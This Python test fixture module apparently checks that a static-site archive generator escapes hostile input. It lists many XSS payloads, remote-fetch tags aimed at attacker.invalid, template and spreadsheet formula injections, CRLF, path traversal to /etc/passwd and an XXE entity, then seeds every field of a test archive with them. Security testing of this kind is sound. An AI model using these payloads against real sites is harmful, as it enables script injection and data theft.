"""Strings that would run a script, fetch from elsewhere or change a page, and an archive full of them."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

from tests.engine.archives import SmallArchive

RUN = "top.attacked=1"
"""What a script of an attack does: the page's window tells that it ran."""
AWAY = "https://attacker.invalid"
"""Where a request of an attack goes; no such host can exist."""

HANDLERS = """\
<img src=x onerror=RUN>
<img src=x onerror="RUN" alt="
<image src=x onerror=RUN>
<img/src=x/onerror=RUN>
<img src=x:x onerror=eval('RUN')>
<img src=`x` onerror=RUN>
<IMG SRC=x OnErRoR=RUN>
<img src=x onerror=RUN//
<<img src=x onerror=RUN>>
<img \x0bsrc=x \x0conerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x>
<body onload=RUN>
<body onpageshow=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<button autofocus onfocus=RUN>x</button>
<a id=x tabindex=1 autofocus onfocus=RUN>x</a>
<details open ontoggle=RUN>x</details>
<details open onToggle="RUN"><summary>x</summary></details>
<video src=x onerror=RUN>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN>
<video autoplay onloadstart=RUN src=x>
<object data=x onerror=RUN>
<iframe onload=RUN>
<marquee onstart=RUN>x</marquee>
<style onload=RUN></style>
<link rel=stylesheet href=x onerror=RUN>
<script src=x onerror=RUN></script>
<xss onanimationstart=RUN style="animation:x">
<xss onclick=RUN tabindex=0>x</xss>
<p onmouseover=RUN>x</p>
<form onsubmit=RUN><button>x</button></form>
<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>
<div popover onbeforetoggle=RUN>x</div>
<math onclick=RUN>x</math>
""".split("\n")[:-1]
SCRIPTS = """\
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script >RUN</script >
<script type=module>RUN</script>
<script src=AWAY/a.js></script>
<script src=//attacker.invalid/a.js></script>
<script src=data:text/javascript,RUN></script>
<scr<script>ipt>RUN</scr</script>ipt>
<script>RUN
<script/x>RUN</script>
<script\x0c>RUN</script>
<svg><script>RUN</script></svg>
<svg><script href=data:,RUN></script></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<math><script>RUN</script></math>
<math><mtext><table><mglyph><style><!--</style><img src=x onerror=RUN>
<noscript><p title="</noscript><script>RUN</script>">
<template><script>RUN</script></template>
<iframe srcdoc="<script>RUN</script>">
<iframe src="javascript:RUN">
<object data="javascript:RUN">
<embed src="javascript:RUN">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<base href="AWAY/">
<base href="javascript:RUN//">
<meta http-equiv=refresh content="0;url=AWAY/">
<meta http-equiv=refresh content="0;javascript:RUN">
<form action="javascript:RUN"><input type=submit></form>
<isindex action="javascript:RUN" type=image>
<button formaction="javascript:RUN">x</button>
<a href="javascript:RUN">x</a>
<a href="java\tscript:RUN">x</a>
<a href="&#106;avascript:RUN">x</a>
<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>
<math href="javascript:RUN">x</math>
<?xml-stylesheet href="javascript:RUN"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
""".split("\n")[:-1]
CLOSINGS = """\
"><script>RUN</script>
'><script>RUN</script>
`><script>RUN</script>
></a><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</script ><img src=x onerror=RUN>
</noscript><script>RUN</script>
</template><script>RUN</script>
</select><script>RUN</script>
</svg><script>RUN</script>
</head><body onload=RUN>
</html><script>RUN</script>
--><script>RUN</script>
--!><script>RUN</script>
<!--><script>RUN</script>-->
<!-- --!><img src=x onerror=RUN>
<![CDATA[<script>RUN</script>]]>
]]><script>RUN</script>
*/</style><script>RUN</script>/*
" onmouseover="RUN
" autofocus onfocus="RUN
' onfocus='RUN' autofocus='
 onfocus=RUN autofocus
\\"><script>RUN</script>
\\'; RUN; //
"; RUN; //
"}]}</script><script>RUN</script>
"-RUN-"
'-RUN-'
${RUN}
`;RUN;`
\\u003cscript\\u003eRUN\\u003c/script\\u003e
\\x3cscript\\x3eRUN\\x3c/script\\x3e
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;script&amp;gt;RUN
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;script&#x3e;RUN
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
\uff1cscript\uff1eRUN\uff1c/script\uff1e
\u02bascript\u02ba onfocus=RUN
<\u200bscript>RUN</script>
<script\u2028>RUN</script>
\u202e>tpircs/<RUN>tpircs<\u202c
\u2066<script>RUN</script>\u2069
\u061c\u200f<b onclick=RUN>x</b>\u200e
\ufeff<script>RUN</script>
""".split("\n")[:-1]
ADDRESSES = """\
javascript:RUN
JaVaScRiPt:RUN
 javascript:RUN
javascript&colon;RUN
javascript://attacker.invalid/%0aRUN
java\tscript:RUN
\x01javascript:RUN
vbscript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD50b3AuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>
blob:https://attacker.invalid/1
file:///etc/passwd
view-source:javascript:RUN
//attacker.invalid/x
\\\\attacker.invalid\\x
https://attacker.invalid/"onfocus="RUN"autofocus="
https://attacker.invalid/'><script>RUN</script>
https://user:word@attacker.invalid/<svg onload=RUN>
mailto:a@b.example?subject="><script>RUN</script>
[x](javascript:RUN)
[x](JAVASCRIPT:RUN)
[x](java&#x73;cript:RUN)
[x](<javascript:RUN>)
[x](data:text/html,<script>RUN</script>)
[x](vbscript:RUN)
[x]: javascript:RUN "x"
[x](https://attacker.invalid "\\" onfocus=RUN autofocus \\"")
![x](AWAY/a.png)
![x](javascript:RUN)
![x](x "\\" onerror=\\"RUN")
![x" onerror="RUN](x)
<javascript:RUN>
<https://attacker.invalid/"onclick="RUN">
[^x]: <script>RUN</script>
# <script>RUN</script> {onclick=RUN}
[x]{: onclick="RUN"}
| <script>RUN</script> | <img src=x onerror=RUN> |
""".split("\n")[:-1]
FETCHES = """\
<img src=AWAY/a.png>
<img srcset="AWAY/a.png 1x">
<picture><source srcset="AWAY/a.png"><img></picture>
<link rel=stylesheet href=AWAY/a.css>
<link rel=prefetch href=AWAY/a>
<link rel=preload as=image href=AWAY/a.png>
<link rel=dns-prefetch href=AWAY>
<style>@import "AWAY/a.css";</style>
<style>body{background:url(AWAY/a.png)}</style>
<p style="background:url(AWAY/a.png)">x</p>
<table background=AWAY/a.png><td>x</table>
<input type=image src=AWAY/a.png>
<video poster=AWAY/a.png></video>
<audio src=AWAY/a.ogg autoplay></audio>
<track src=AWAY/a.vtt>
<iframe src=AWAY/></iframe>
<object data=AWAY/a.svg></object>
<embed src=AWAY/a.svg>
<svg><image href=AWAY/a.png /></svg>
<svg><use href="AWAY/a.svg#x"/></svg>
<svg><feImage xlink:href=AWAY/a.png /></svg>
{{ 7 * 7 }}
{{ config.__class__.__init__.__globals__ }}
{% include "/etc/passwd" %}
{# comment #}{{ "<script>RUN</script>" | safe }}
{% raw %}<script>RUN</script>{% endraw %}
#{RUN} <%= RUN %> ${{RUN}} [[RUN]]
=HYPERLINK("AWAY","x")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
\t=1+1
%0d%0aLocation: AWAY
{filename}/etc/passwd
{static}../../../etc/passwd
{attach}../../etc/passwd
../../../../etc/passwd
__proto__ constructor toString
hasOwnProperty" OR title:"*
""".split("\n")[:-1]


def _filled(lines: Sequence[str]) -> list[str]:
    return [line.replace("RUN", RUN).replace("AWAY", AWAY) for line in lines]


ALL = _filled([line for kind in (HANDLERS, SCRIPTS, CLOSINGS, ADDRESSES, FETCHES) for line in kind])
FEW = ALL[::8]

TEXTS = (
    "title", "kind", "summary", "slug", "source_url", "lang", "license", "publisher", "report_number",
    "supersedes", "correction", "source_file",
)  # fmt: skip
"""Fields of a brief that may hold any text; which of it is shown is the program's affair."""
STRICT = ("date", "status", "modified")
"""Those that may not; each stands in a brief of its own, since that may be refused."""
SETTINGS = (
    "SITENAME", "ARCHIVE_DESCRIPTION", "ARCHIVE_PUBLISHER", "ARCHIVE_LICENSE", "ARCHIVE_CONTACT",
    "ARCHIVE_ID",
)  # fmt: skip
RECORDS = {
    "people": "person", "organizations": "organization", "places": "place", "events": "event",
    "concepts": "concept", "issues": "issue",
}  # fmt: skip


def archive_of(folder: Path, attacks: Sequence[str]) -> SmallArchive:
    """Make an archive of which every field holds every attack, in one brief or another.

    Only the settings, of which a site has one each, share them out.
    """
    archive = SmallArchive.make(folder)
    settings = folder / "pelican.conf.py"
    shares = {key: " ".join(attacks[place :: len(SETTINGS)]) for place, key in enumerate(SETTINGS)}
    lines = "".join(f"{key} = {text!r}\n" for key, text in shares.items())
    settings.write_text(settings.read_text() + lines, encoding="utf-8")
    for place in range(len(attacks)):
        _write_brief(archive, attacks, place)
    for file, type_ in RECORDS.items():
        records = (_record(attacks, place, file, type_) for place in range(len(attacks)))
        (folder / f"content/authority/{file}.yaml").write_text("".join(records), encoding="utf-8")
    (folder / "content/pages").mkdir()
    for place, attack in enumerate(attacks):
        head = f"---\ntitle: {_quoted(attack)}\nslug: own-{place}\n---\n\n"
        (folder / f"content/pages/own-{place}.md").write_text(f"{head}Text.\n", encoding="utf-8")
    rows = "".join(f"topics/{a}.html\ttopics/index.html#{a}\n" for a in attacks if not set(a) & set("\t\r"))
    (folder / "content/redirects.tsv").write_text(f"old_address\tnew_address\n{rows}", encoding="utf-8")
    for place, attack in enumerate(attacks):
        raw = f"May 2, 2024 | Commentary\n\nPaste {place} {attack}\n\n{attack} stands here. {attack}\n\n"
        raw += f"By {attack}\n\nTopics: {attack}\n"
        (folder / f"seeds/{place}.txt").write_text(raw, encoding="utf-8")
    return archive


def _write_brief(archive: SmallArchive, attacks: Sequence[str], place: int) -> None:
    def attack(step: int) -> str:
        return attacks[(place + step) % len(attacks)]

    texts = {key: attack(step) for step, key in enumerate(TEXTS)}
    texts["slug"] += f" {place}"  # several attacks make the same address
    head = [f"{key}: {_quoted(text)}" for key, text in texts.items()]
    lists = {
        "authors": [attack(1), attack(2)],
        "issues": [attack(3), _name(attack(4), "issues")],
        "topics": [attack(5), *(_name(attack(6 + n), file) for n, file in enumerate(RECORDS))],
    }
    head += [f"{key}: {json.dumps(values)}" for key, values in lists.items()]
    dated = [*head, f"date: {2000 + place % 20}-05-{place % 28 + 1:02}"]
    body = _body(attack(0))
    mark = "".join(sign for sign in attack(0) if sign.isprintable() and sign not in "/\0")[:60]
    archive.write(f"2024/{place}-{mark}.md", "\n".join(["---", *dated, "---", "", body]))
    for key in STRICT:
        fields = {"title": f"Strict {key} {place}", "date": "2024-05-06", "kind": "Brief"}
        fields[key] = attack(0)
        lines = [f"{name}: {_quoted(value)}" for name, value in fields.items()]
        archive.write(f"strict/{key}-{place}.md", "\n".join(["---", *lines, "---", "", body]))


def _body(attack: str) -> str:
    """Return Markdown with the attack in each kind of block."""
    parts = [
        attack, f"## {attack}", f"A sentence with {attack} in it.", f"- {attack}\n- x", f"> {attack}",
        f"| {attack} | x |\n|---|---|\n| {attack} | x |", f"    {attack}", f"```{attack}\n{attack}\n```",
        f"`{attack}` **{attack}** *{attack}*", f"[{attack}]({attack})", f"[x](<{attack}>)",
        f'[x](https://example.org "{attack}")', f"![{attack}]({attack})", f"[x][r]\n\n[r]: {attack}",
        f"<{attack}>", f"Noted.[^1]\n\n[^1]: {attack}", f"## About the author\n\n{attack}",
    ]  # fmt: skip
    return "\n\n".join(parts) + "\n"


def _name(attack: str, file: str) -> str:
    return f"{file} {attack}"


def _record(attacks: Sequence[str], place: int, file: str, type_: str) -> str:
    def attack(step: int) -> str:
        return attacks[(place + step) % len(attacks)]

    fields = {
        "id": f"{file}-{place}",
        "name": _name(attack(0), file),
        "type": type_,
        "aliases": [f"alias of {file} {place} {attack(1)}"],
        "note": attack(2),
        "same_as": [attack(3), f"https://example.org/{attack(3)}"],
        "related": [attack(4), f"{file}-{(place + 1) % len(attacks)}"],
    }
    lines = [f"  {key}: {json.dumps(value)}\n" for key, value in fields.items()]
    return f"-{lines[0][1:]}{''.join(lines[1:])}"


def _quoted(text: str) -> str:
    return json.dumps(text)
